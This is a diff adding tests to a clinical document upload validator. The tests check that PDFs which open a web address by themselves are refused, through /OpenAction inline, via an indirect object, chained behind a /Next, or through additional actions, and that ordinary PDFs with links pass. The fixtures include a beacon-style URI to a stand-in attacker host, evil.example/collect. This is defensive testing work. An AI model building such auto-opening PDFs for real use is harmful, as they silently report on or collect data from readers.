@@ -16,7 +16,7 @@ from django.urls import reverse
 from carnet.audit.models import AuditEntry
 from carnet.clinical.contents import check_pdf, sniff
 from carnet.clinical.documents import add_document
-from carnet.clinical.models import Document
+from carnet.clinical.models import Document, DocumentKind
 from carnet.guard.policy import Role
 
 from .clinical_helpers import as_actor, client_of, consultation, member, pdf, png
@@ -87,6 +87,30 @@ def test_javascript_hidden_in_a_compressed_object_stream_is_found():
     with pytest.raises(ValidationError) as refused:
         check_pdf(pdf(extra_objects=[stream + b"\nendstream"]))
     assert "JavaScript" in str(refused.value)
+
+
+def test_a_pdf_that_opens_an_address_by_itself_is_refused():
+    """/OpenAction with a URI, written inline, or in an indirect object, or behind a /Next
+    after a harmless GoTo; and additional actions on the document or a page."""
+    uri = b"<< /S /URI /URI (http://evil.example/collect?who=me) >>"
+    goto = b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>"
+    for document in (
+        pdf(extra_catalog=b"/OpenAction " + uri),
+        pdf(extra_catalog=b"/OpenAction 6 0 R", extra_objects=[uri]),
+        pdf(extra_catalog=b"/OpenAction " + goto, extra_objects=[uri]),
+        pdf(extra_catalog=b"/AA << /WC " + uri + b" >>"),
+    ):
+        with pytest.raises(ValidationError) as refused:
+            check_pdf(document)
+        assert "active content" in str(refused.value)
+
+
+def test_an_ordinary_pdf_with_an_opening_view_and_links_is_accepted():
+    """What word processors write: open at the first page, fit to the window, and links the
+    reader may choose to follow."""
+    link = b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://ansm.sante.fr/) >> >>"
+    document = pdf(extra_catalog=b"/OpenAction [3 0 R /Fit]", extra_objects=[link])
+    assert sniff(document) == DocumentKind.PDF
 
 
 def test_an_encrypted_pdf_cannot_be_checked_so_it_is_refused():
